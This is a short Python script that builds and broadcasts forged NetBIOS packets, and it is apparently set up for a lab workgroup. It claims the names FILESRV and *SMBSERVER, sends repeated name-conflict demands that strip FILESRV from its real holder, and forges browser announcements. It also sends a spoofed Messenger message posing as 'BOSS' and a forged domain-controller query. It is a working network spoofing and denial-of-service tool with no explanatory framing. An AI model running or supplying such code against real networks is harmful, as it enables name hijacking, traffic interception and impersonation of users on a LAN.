#!/usr/bin/python3
"""NetBIOS names claimed and taken away, and datagrams that lie. RFC 1002 4.2, 4.4; [MS-BRWS] 2.2

    netbios.py ADDRESS BROADCAST
"""
import socket
import struct
import sys


def encoded(name, suffix):
    octets = name.encode("ascii").ljust(15) + bytes([suffix])
    return b"\x20" + b"".join(bytes([0x41 + (octet >> 4), 0x41 + (octet & 15)]) for octet in octets) + b"\0"


def registration(number, name, suffix, address):
    """A broadcast NAME REGISTRATION REQUEST of a unique name."""
    head = struct.pack(">HHHHHH", number, 0x2910, 1, 0, 0, 1)
    return head + encoded(name, suffix) + struct.pack(">HHHHHLHH", 0x20, 1, 0xC00C, 0x20, 1, 300000, 6, 0) + socket.inet_aton(address)


def conflict(number, name, suffix, address):
    """A NAME CONFLICT DEMAND."""
    head = struct.pack(">HHHHHH", number, 0xAC07, 0, 1, 0, 0)
    return head + encoded(name, suffix) + struct.pack(">HHLHH", 0x20, 1, 0, 6, 0) + socket.inet_aton(address)


def datagram(number, address, source, destination, mailslot, data):
    """A DIRECT_GROUP datagram with a mailslot's transaction."""
    slot = mailslot.encode("ascii") + b"\0"
    header = b"\xffSMB\x25" + b"\0" * 27
    words = struct.pack("<BHHHHBBHLHHHHHBBHHH", 17, 0, len(data), 0, 0, 0, 0, 0, 0, 0, 0, 0, len(data), 69 + len(slot), 3, 0, 1, 0, 2)
    message = header + words + struct.pack("<H", len(slot) + len(data)) + slot + data
    body = encoded(*source) + encoded(*destination) + message
    return struct.pack(">BBH4sHHH", 0x11, 0x0A, number, socket.inet_aton(address), 138, len(body), 0) + body


def announcement(name, major, minor):
    return struct.pack("<BBL16sBBLBBH", 1, 0, 720000, name.encode("ascii"), major, minor, 0x00001003, 15, 1, 0xAA55) + b"\0"


def main(address, broadcast):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as names, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as others:
        for one, port in ((names, 137), (others, 138)):
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            one.bind((address, port))
        names.sendto(registration(1, "FILESRV", 0x20, address), (broadcast, 137))
        names.sendto(registration(2, "*SMBSERVER", 0x20, address), (broadcast, 137))
        for number in range(5):
            names.sendto(conflict(3 + number, "FILESRV", 0x20, address), (broadcast, 137))
        to = ("LABWG", 0x1D)
        for data in (announcement("FILESRV", 10, 0), b"\x0e\x01"):
            others.sendto(datagram(1, address, ("CLIENT1", 0), to, "\\MAILSLOT\\BROWSE", data), (broadcast, 138))
        others.sendto(datagram(2, address, ("CLIENT1", 0), ("ALICE", 3), "\\MAILSLOT\\MESSNGR", b"BOSS\0ALICE\0Call me.\0"), (broadcast, 138))
        others.sendto(datagram(3, address, ("CLIENT1", 0), ("DC", 0), "\\MAILSLOT\\NET\\GETDC123", b"\x0c\0\\\\CLIENT1\0"), (broadcast, 138))


if __name__ == "__main__":
    main(*sys.argv[1:])
